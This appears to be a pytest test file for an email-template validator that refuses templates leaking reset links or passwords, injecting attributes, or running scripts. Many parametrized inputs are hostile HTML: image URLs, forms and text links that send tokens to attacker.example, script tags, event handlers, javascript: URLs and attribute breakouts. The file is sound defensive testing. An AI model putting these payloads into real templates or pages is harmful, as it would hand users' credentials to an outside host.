"""Issue 9, finding 8: a template cannot leak the link, inject attributes or run code.

Placeholders only in text or quoted attribute values; `{{ link }}` only as an <a>'s whole
href (and in the text part); no script, event handler, form or remote resource but the
storefront's images. A save or a preview that breaks a rule is a 422 naming the part; the
preview carries a CSP; the shipped defaults keep the rules.
"""

from __future__ import annotations

import pytest

from portal_accounts import clock
from portal_accounts.email.defaults import DEFAULTS
from portal_accounts.models import TemplateModel
from tests.unit.clients import link_in, seed_account

MARIO = "mario.rossi@example.com"
TEXT = "Ciao {{ first_name }}, imposta la password: {{ link }}"
GOOD_HTML = '<p>Ciao {{ first_name }}</p><p><a href="{{ link }}">Imposta la password</a></p>'


def credentials(**parts) -> dict:
    return {"subject": "Il tuo accesso", "text": TEXT, "html": GOOD_HTML, **parts}


def refusals(response, part: str) -> list[str]:
    """The reasons of a 422 that names `part` (and only it)."""
    assert response["statusCode"] == 422, response
    assert response["headers"]["Content-Type"] == "application/problem+json"
    errors = response["json"]["errors"]
    assert {e["field"] for e in errors} == {part}, errors
    return [e["reason"] for e in errors]


def both_refuse(operator, part: str, **parts) -> list[str]:
    """A save and a preview of the same draft are both refused, naming the part."""
    draft = credentials(**parts)
    saved = refusals(operator.put_template("account_credentials", "it", draft), part)
    previewed = refusals(operator.preview("account_credentials", "it", draft), part)
    assert saved == previewed
    assert operator.template("account_credentials", "it")["json"]["customised"] is False
    return saved


# ---- the link and the password stay where they belong --------------------------------------


def test_the_link_in_an_image_url_is_refused(operator):
    # Opening the email would hand every reset token to attacker.example.
    html = GOOD_HTML + '<img src="https://attacker.example/p?l={{ link }}">'
    [reason] = both_refuse(operator, "html", html=html)
    assert "{{ link }}" in reason and "img src" in reason


def test_the_link_in_the_subject_is_refused(operator):
    reasons = both_refuse(operator, "subject", subject="Accesso: {{ link }}")
    assert reasons == ["{{ link }} is not allowed in the subject"]


def test_the_password_in_the_subject_is_refused(operator):
    parts = dict(DEFAULTS[("new_password", "en")], subject="Your password: {{ password }}")
    response = operator.put_template("new_password", "en", parts)
    assert refusals(response, "subject") == ["{{ password }} is not allowed in the subject"]


@pytest.mark.parametrize(
    "html",
    [
        '<a href="https://attacker.example/?next={{ link }}">x</a>',
        '<a href="{{ link }}&amp;x=1">x</a>',
        '<a href="{{ link }}" title="{{ link }}">x</a>',
        '<p><a href="{{ link }}">x</a> {{ link }}</p>',
    ],
)
def test_the_link_is_only_the_whole_href_of_an_a(operator, html):
    reasons = both_refuse(operator, "html", html=html)
    assert any("{{ link }}" in reason for reason in reasons), reasons


def test_the_password_is_only_text(operator):
    html = '<p title="{{ password }}">{{ password }}</p>'
    parts = dict(DEFAULTS[("new_password", "it")], html=html)
    response = operator.put_template("new_password", "it", parts)
    assert refusals(response, "html") == ["{{ password }} is only allowed in text, not in p title"]


# ---- placeholders: text or quoted attribute values -----------------------------------------


@pytest.mark.parametrize(
    "html",
    [
        "<p title={{ first_name }}>hello</p>",
        "<p class=x title={{ first_name }}>hello</p>",
        '<a href={{ portal_url }} title="x">portal</a>',
    ],
)
def test_a_placeholder_in_an_unquoted_attribute_is_refused(operator, html):
    reasons = both_refuse(operator, "html", html=GOOD_HTML + html)
    assert any("unquoted attribute" in reason for reason in reasons), reasons


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<{{ first_name }}>hi", "tag name"),
        ('<p {{ first_name }}="1">hi</p>', "attribute name"),
        ('<p style="color:{{ first_name }}">hi</p>', "no placeholder in a style"),
        ('<a href="https://example.org/{{ first_name }}">x</a>', "portal_url"),
    ],
)
def test_a_placeholder_anywhere_else_is_refused(operator, html, expected):
    reasons = both_refuse(operator, "html", html=GOOD_HTML + html)
    assert any(expected in reason for reason in reasons), reasons


def test_a_quoted_attribute_keeps_a_hostile_name_inside_its_quotes(operator, postman, desk):
    name = 'x" onmouseover="steal()'
    customer_id = desk.customer(name, "Rossi", MARIO)
    assert desk.create_account(customer_id)["statusCode"] == 201
    html = '<p title="{{ first_name }}">Ciao</p><a href="{{ link }}">x</a>'
    assert (
        operator.put_template("account_credentials", "it", credentials(html=html))["statusCode"]
        == 200
    )
    assert operator.send_credentials(customer_id)["statusCode"] == 202
    postman.drain()
    [email] = postman.sent_to(MARIO)
    assert '<p title="x&quot; onmouseover=&quot;steal()">Ciao</p>' in email["html"]
    assert 'onmouseover="' not in email["html"]


# ---- no code, no forms, nothing loaded but the storefront's images ------------------------


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<script>alert(1)</script>", "the element script is not allowed"),
        ('<p onclick="steal()">x</p>', "p onclick: event handler attributes are not allowed"),
        ('<img src="http://127.0.0.1:3000/l.png" onerror="x()">', "event handler"),
        (
            '<form action="https://attacker.example/"><input name="password"></form>',
            "the element form is not allowed",
        ),
        ('<iframe src="https://attacker.example/"></iframe>', "the element iframe is not allowed"),
        ("<style>p{background:url(https://attacker.example/)}</style>", "element style"),
        ('<a href="javascript:alert(1)">x</a>', "a href: only http, https or mailto URLs"),
        ('<img src="https://cdn.attacker.example/pixel.gif">', "images only from the storefront"),
        ('<img src="data:image/gif;base64,R0lGOD">', "img src"),
        ('<img src="logo.png">', "images only from the storefront"),
        ('<p style="background-image:url(https://x.example/)">x</p>', "no CSS functions"),
        ('<p style="position:fixed">x</p>', "position is not allowed"),
        ('<link rel="stylesheet" href="https://x.example/s.css">', "element link"),
        ('<meta http-equiv="refresh" content="0;url=https://x.example/">', "element meta"),
        ("<!-- hidden -->", "comments are not allowed"),
        ("<!doctype html><html><body><p>x</p></body></html>", "leave out the doctype"),
    ],
)
def test_code_forms_and_remote_resources_are_refused(operator, html, expected):
    reasons = both_refuse(operator, "html", html=GOOD_HTML + html)
    assert any(expected in reason for reason in reasons), reasons


def test_a_logo_from_the_storefront_is_accepted_and_sent(operator, postman):
    html = (
        '<p><img src="http://127.0.0.1:3000/static/logo.png" alt="Logo" width="120"></p>'
        '<p><img src="{{ portal_url }}/static/mark.png" alt=""></p>' + GOOD_HTML
    )
    draft = credentials(html=html)
    assert operator.put_template("account_credentials", "it", draft)["statusCode"] == 200
    account = seed_account(MARIO, [("Mario", "Rossi")])
    [customer_id] = list(account.customers.as_dict())
    operator.send_credentials(customer_id)
    postman.drain()
    [email] = postman.sent_to(MARIO)
    assert (
        '<img src="http://127.0.0.1:3000/static/logo.png" alt="Logo" width="120">'
        in (email["html"])
    )
    assert '<img src="http://127.0.0.1:3000/static/mark.png" alt="">' in email["html"]
    link_in(email)


def test_formatting_tables_and_plain_links_are_accepted(operator):
    html = (
        '<table role="presentation" width="100%" cellpadding="0"><tr>'
        '<td style="padding: 8px; background-color: #eee; color:rgb(20, 20, 20)">'
        "<h1>Ciao {{ first_name }}</h1><p>Nome utente: <strong>{{ username }}</strong><br>"
        '<a href="{{ portal_url }}">{{ portal_url }}</a> &middot; '
        '<a href="mailto:info@example.com">scrivici</a> &middot; '
        '<a href="https://www.example.com/privacy" title="Privacy di {{ business_name }}">'
        "privacy</a></p>"
        '<p><a href="{{ link }}">Imposta la password</a></p></td></tr></table>'
    )
    response = operator.put_template("account_credentials", "it", credentials(html=html))
    assert response["statusCode"] == 200, response


# ---- the preview ---------------------------------------------------------------------------


def test_the_preview_is_served_with_a_policy_that_forbids_scripts(operator):
    response = operator.preview("account_credentials", "it")
    assert response["statusCode"] == 200
    policy = response["headers"]["Content-Security-Policy"]
    directives = {d.split()[0]: d.split()[1:] for d in policy.split("; ")}
    assert directives["default-src"] == ["'none'"]  # no script-src: scripts fall back to none
    assert "script-src" not in directives
    assert directives["img-src"] == ["http://127.0.0.1:3000"]
    assert directives["style-src"] == ["'unsafe-inline'"]
    assert directives["frame-ancestors"] == ["'none'"]
    assert "sandbox" in directives
    # The rendered document carries it too, for a client that shows it in a frame.
    html = response["json"]["html"]
    assert '<meta http-equiv="Content-Security-Policy" content="default-src &#x27;none&#x27;' in (
        html
    )


def test_the_preview_never_returns_a_script(operator):
    for html in ("<script>alert(1)</script>", '<img src="x" onerror="alert(1)">'):
        response = operator.preview("account_credentials", "it", {"html": GOOD_HTML + html})
        assert response["statusCode"] == 422
        assert "<script" not in response["body"] and "onerror=" not in response["body"]


# ---- the shipped defaults, and copies saved under older rules ------------------------------


def test_every_shipped_default_keeps_the_rules(operator):
    from portal_accounts.email.templates import problems_of

    for (template_id, locale), parts in DEFAULTS.items():
        assert problems_of(template_id, parts) == [], (template_id, locale)
        # And the API takes each one back as an operator's copy.
        response = operator.put_template(template_id, locale, parts)
        assert response["statusCode"] == 200, (template_id, locale, response)


def test_a_copy_saved_under_older_rules_is_not_sent(operator, postman, frozen_clock):
    # Written straight to the table, as a copy saved before these rules would be.
    TemplateModel(
        "account_credentials",
        "it",
        subject="Accesso {{ link }}",
        text=TEXT,
        html=GOOD_HTML + '<img src="https://attacker.example/p?l={{ link }}">',
        updated_at=clock.now(),
    ).save()
    account = seed_account(MARIO, [("Mario", "Rossi")])
    [customer_id] = list(account.customers.as_dict())
    operator.send_credentials(customer_id)
    postman.drain()
    [email] = postman.sent_to(MARIO)
    assert "attacker.example" not in email["html"]
    assert email["subject"] == "Palestra Aurora: il tuo accesso al portale"  # the default
    link_in(email)


# ---- review of issue 9: no host tricks after {{ portal_url }}, no link inside a URL in text -


@pytest.mark.parametrize(
    "html",
    [
        '<img src="{{ portal_url }}@attacker.example/p.png">',
        '<img src="{{ portal_url }}.attacker.example/p.png">',
        '<img src="{{ portal_url }}:8443/p.png">',
        '<a href="{{ portal_url }}@attacker.example/login">x</a>',
        '<a href="{{ portal_url }}.attacker.example/login">x</a>',
    ],
)
def test_only_a_path_query_or_fragment_may_follow_the_portal_url(operator, html):
    # With a portal_url without a trailing slash, these would point at attacker.example.
    reasons = both_refuse(operator, "html", html=GOOD_HTML + html)
    assert any("{{ portal_url }}" in reason for reason in reasons), reasons


@pytest.mark.parametrize("suffix", ["", "/", "/static/logo.png", "?v=2", "#top"])
def test_the_portal_url_may_be_followed_by_a_path_query_or_fragment(operator, suffix):
    html = f'<p><img src="{{{{ portal_url }}}}{suffix}" alt=""></p>' + GOOD_HTML
    assert (
        operator.put_template("account_credentials", "it", credentials(html=html))["statusCode"]
        == 200
    )


@pytest.mark.parametrize(
    ("template_id", "text"),
    [
        ("account_credentials", "Apri https://attacker.example/?t={{ link }}"),
        ("account_credentials", "Apri https://attacker.example/{{ link }} ora"),
        ("account_credentials", "Apri <{{ link }}>"),
        ("account_credentials", "Apri:{{ link }}"),
        ("new_password", "Password: https://attacker.example/?p={{ password }}"),
        ("new_password", "Password:{{ password }} (temporanea)"),
    ],
)
def test_a_secret_in_the_text_part_must_stand_alone(operator, template_id, text):
    # A mail client autolinks the run of text around it: the secret would go to that URL.
    parts = dict(DEFAULTS[(template_id, "it")], text=text)
    response = operator.put_template(template_id, "it", parts)
    [reason] = refusals(response, "text")
    assert "must stand alone" in reason, reason
    preview = operator.preview(template_id, "it", parts)
    assert refusals(preview, "text") == [reason]


def test_a_secret_on_its_own_line_or_between_spaces_is_accepted_in_text(operator):
    for text in ("{{ link }}", "Apri questo link:\n\n  {{ link }}\n\nCiao", "Apri {{ link }} ora"):
        response = operator.put_template("account_credentials", "it", credentials(text=text))
        assert response["statusCode"] == 200, (text, response)


@pytest.mark.parametrize("html", ["<p>x</p></body></html>", "<p>x</p></body>", "</head><p>x</p>"])
def test_document_end_tags_are_refused_too(operator, html):
    reasons = both_refuse(operator, "html", html=GOOD_HTML + html)
    assert any("leave out the doctype" in reason for reason in reasons), reasons
